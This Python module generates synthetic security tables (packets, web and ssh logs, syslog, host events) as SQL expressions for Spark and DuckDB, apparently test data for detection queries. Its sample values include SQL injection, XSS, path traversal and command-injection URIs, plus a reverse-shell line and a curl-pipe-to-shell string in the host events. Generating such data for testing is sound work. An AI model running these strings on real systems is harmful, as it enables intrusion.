"""Security tables derived from the driver's ``events``.

Each column is one SQL expression that Spark and DuckDB read alike, so that a query and its SQL twin start from the same
rows. A user is a source address; k (0 to 99), from the properties, stands for ports, sizes and texts; the event types stand
for protocols and TCP flags.
"""

from __future__ import annotations

from pyspark.sql import DataFrame

BASE = ("event_id", "ts", "user_id", "event_type", "value")
K_SPARK, K_DUCK = "CAST(get_json_object(props, '$.k') AS INT) AS k", "CAST(json_extract_string(props, '$.k') AS INT) AS k"

URIS = (
    "/index.html", "/a?id=1 union select pw from users", "/q?x=<script>alert(1)</script>", "/../../etc/passwd", "/run?c=;cat /etc/hosts",
    "/shop?page=2&page=3", "/api/v1/items", "/login?u=admin' or '1'='1", "/static/app.js", "/wp-admin/setup.php", "http://169.254.169.254/latest",
    "/p?a=1&a=<script>x", "/img/logo.png", "/search?q=%3Cscript%3E", "/news/7", "/cart?sum=10",
)
AGENTS = ("Mozilla/5.0", "sqlmap/1.7", "curl/8.0", "Nikto/2.5", "Mozilla/5.0 (X11)")


def _pick(values: tuple[str, ...], by: str) -> str:
    quoted = [v.replace("'", "''") for v in values]
    return f"CASE {by} % {len(values)} " + " ".join(f"WHEN {i} THEN '{v}'" for i, v in enumerate(quoted)) + " END"


PACKETS = (
    "event_id", "ts", "user_id", "k", "value", "event_type",
    "concat('10.0.', CAST(user_id % 4 AS STRING), '.', CAST(user_id % 250 AS STRING)) AS src_ip",
    "concat(CASE WHEN k % 9 = 0 THEN '104.16.0.' WHEN k % 9 = 1 THEN '8.8.8.' ELSE '192.168.1.' END, CAST(CASE WHEN k % 33 = 0 THEN 255 ELSE k END AS STRING)) AS dst_ip",
    "CAST(CASE WHEN k % 7 = 0 THEN 80 ELSE 1024 + k * 13 END AS INT) AS src_port",
    "CAST(CASE k % 10 WHEN 0 THEN 22 WHEN 1 THEN 80 WHEN 2 THEN 443 WHEN 3 THEN 53 WHEN 4 THEN 8080 WHEN 5 THEN 3306 WHEN 6 THEN 23 WHEN 7 THEN 445 WHEN 8 THEN 4444 ELSE 9000 + k END AS INT) AS dst_port",
    "CASE WHEN k = 77 THEN 'proto_89' WHEN event_type = 'view' THEN 'udp' WHEN event_type = 'error' THEN 'icmp' ELSE 'tcp' END AS protocol",
    "CASE event_type WHEN 'signup' THEN 'S' WHEN 'purchase' THEN 'SA' WHEN 'click' THEN CASE k % 6 WHEN 0 THEN '' WHEN 1 THEN 'FPU' WHEN 2 THEN 'SF' WHEN 3 THEN 'PA' WHEN 4 THEN 'FR' ELSE 'A' END ELSE '' END AS flags",
    "(event_id * 7919 + k * 104729) % 4294967296 AS tcp_seq",
    "(event_id * 104729 + k * 7919) % 4294967296 AS tcp_ack",
    "CAST(32 + k AS INT) AS ttl", "CAST(k * 512 AS INT) AS win",
    "CAST(CASE WHEN k % 11 = 0 THEN k * 8 ELSE 0 END AS INT) AS frag_offset", "k % 13 = 0 AS more_fragments", "CAST(k % 5 AS INT) AS ip_id",
    "CAST(40 + floor(value * 100) AS INT) AS raw_len", "CAST(floor(value * 20) AS INT) AS payload_len",
    "concat('02:00:00:00:00:', CAST(10 + (user_id + CASE WHEN k % 17 = 0 THEN k ELSE 0 END) % 89 AS STRING)) AS src_mac",
    "CAST(event_id % 1000000 + k * 3 AS BIGINT) AS tsval",
    "CASE WHEN k % 10 = 3 THEN concat('q', CAST(event_id % 97 AS STRING), CASE WHEN k % 4 = 3 THEN 'x9f3kq7zt2vb8m1c5wd6hj' ELSE '' END, '.site', CAST(k % 3 AS STRING), '.example') END AS dns_qname",
    "CAST(CASE WHEN k % 3 = 0 THEN 3 ELSE 0 END AS INT) AS dns_rcode", "CAST(k * 12 AS INT) AS dns_txt_len",
    f"{_pick(URIS, 'k')} AS http_uri", f"{_pick(AGENTS, 'k')} AS user_agent",
    "CASE k % 8 WHEN 0 THEN 'sid=1'' or ''1''=''1' WHEN 1 THEN 'theme=dark' ELSE '' END AS cookie",
    "CASE k % 12 WHEN 0 THEN '../../etc' WHEN 1 THEN '10.1.1.1' ELSE '' END AS forwarded",
    "CASE WHEN k % 25 = 0 THEN 'websocket' ELSE '' END AS upgrade",
    "CAST(CASE WHEN k % 20 = 0 THEN 2 WHEN k % 3 = 0 THEN 1 ELSE 0 END AS INT) AS n_content_length", "k % 6 = 0 AS chunked",
    "concat('edge', CAST(k % 20 AS STRING), CASE WHEN k % 15 = 0 THEN '.onion.ws' ELSE '.example' END) AS tls_sni",
)

LINES = (
    "event_id", "ts", "concat('10.0.', CAST(user_id % 4 AS STRING), '.', CAST(user_id % 250 AS STRING)) AS ip",
    "CASE WHEN event_type = 'error' THEN concat('Jan 02 10:00:', CAST(10 + k % 50 AS STRING), ' host sshd[', CAST(k AS STRING), ']: Failed password for ', CASE WHEN k % 2 = 0 THEN 'invalid user ' ELSE '' END, 'u', CAST(user_id AS STRING), ' from 10.0.', CAST(user_id % 4 AS STRING), '.', CAST(user_id % 250 AS STRING), ' port ', CAST(2000 + k AS STRING)) "
    "WHEN event_type = 'signup' THEN concat('Jan 02 10:00:00 host sshd[7]: Accepted password for u', CAST(user_id AS STRING), ' from 10.0.0.', CAST(user_id % 250 AS STRING), ' port 22') "
    "WHEN event_type = 'purchase' THEN concat('Jan 02 10:00:00 host sshd[7]: Connection closed by 10.0.0.', CAST(user_id % 250 AS STRING), ' port 22') "
    f"ELSE concat('10.0.0.', CAST(user_id % 250 AS STRING), ' - - [02/Jan/2024:10:00:00 +0000] \"GET ', replace({_pick(URIS, 'k')}, ' ', '%20'), ' HTTP/1.1\" ', CAST(200 + k AS STRING), ' 512 \"-\" \"', {_pick(AGENTS, 'k')}, '\"') END AS line",
)

SYSLOG = (
    "event_id", "ts", "concat('10.0.0.', CAST(user_id % 250 AS STRING)) AS source_ip",
    "CASE WHEN k % 3 = 0 THEN concat('Jan  2 10:00:00 host', CAST(user_id % 9 AS STRING), ' app[', CAST(k AS STRING), ']: ', CASE WHEN k % 2 = 0 THEN 'Failed password for root' ELSE 'session opened' END) "
    "ELSE concat('<', CAST(k AS STRING), '>1 2024-01-02T10:00:00Z host', CAST(user_id % 9 AS STRING), ' svc', CAST(k % 7 AS STRING), ' - ID', CAST(k AS STRING), ' ', CASE k % 8 WHEN 1 THEN 'connection denied by firewall' WHEN 2 THEN 'trojan found' WHEN 4 THEN 'nmap seen' WHEN 5 THEN 'kernel panic' ELSE 'all fine' END) END AS raw",
)

HOST = (
    "event_id", "ts", "user_id", "k",
    "CASE event_type WHEN 'click' THEN 'exec' WHEN 'view' THEN 'open' WHEN 'signup' THEN 'connect' WHEN 'error' THEN 'kill' ELSE 'write' END AS event_kind",
    "CAST(user_id % 3 AS INT) AS uid", "CAST(k AS INT) AS pid",
    "CASE k % 5 WHEN 0 THEN '/bin/bash' WHEN 1 THEN '/usr/bin/python3' WHEN 2 THEN '/etc/shadow' WHEN 3 THEN '/var/www/html/x.php' ELSE '/var/log/auth.log' END AS filename",
    "CASE k % 6 WHEN 0 THEN 'bash -i >& /dev/tcp/1.2.3.4/9' WHEN 1 THEN 'import socket' WHEN 2 THEN 'curl http://x | sh >' WHEN 3 THEN 'sudo id' ELSE 'ls -l' END AS args",
    "CAST(CASE k % 8 WHEN 0 THEN 4444 WHEN 1 THEN 22 WHEN 2 THEN 20000 ELSE 443 END AS INT) AS dst_port",
    "CASE WHEN k % 2 = 0 THEN 'TCP' ELSE 'UDP' END AS protocol",
)

TABLES = {"packets": PACKETS, "log_lines": LINES, "syslog_lines": SYSLOG, "host_events": HOST}


def derive(events: DataFrame, name: str) -> DataFrame:
    """A security table over ``events``."""
    return events.selectExpr(*BASE, K_SPARK).selectExpr(*TABLES[name])


def derived_sql(*names: str) -> str:
    """The same tables as common table expressions for DuckDB, ``WITH`` included."""
    base = f"base AS (SELECT {', '.join(BASE)}, {K_DUCK} FROM events)"
    return "WITH RECURSIVE " + ", ".join([base, *[f"{n} AS (SELECT {', '.join(TABLES[n])} FROM base)" for n in names]])
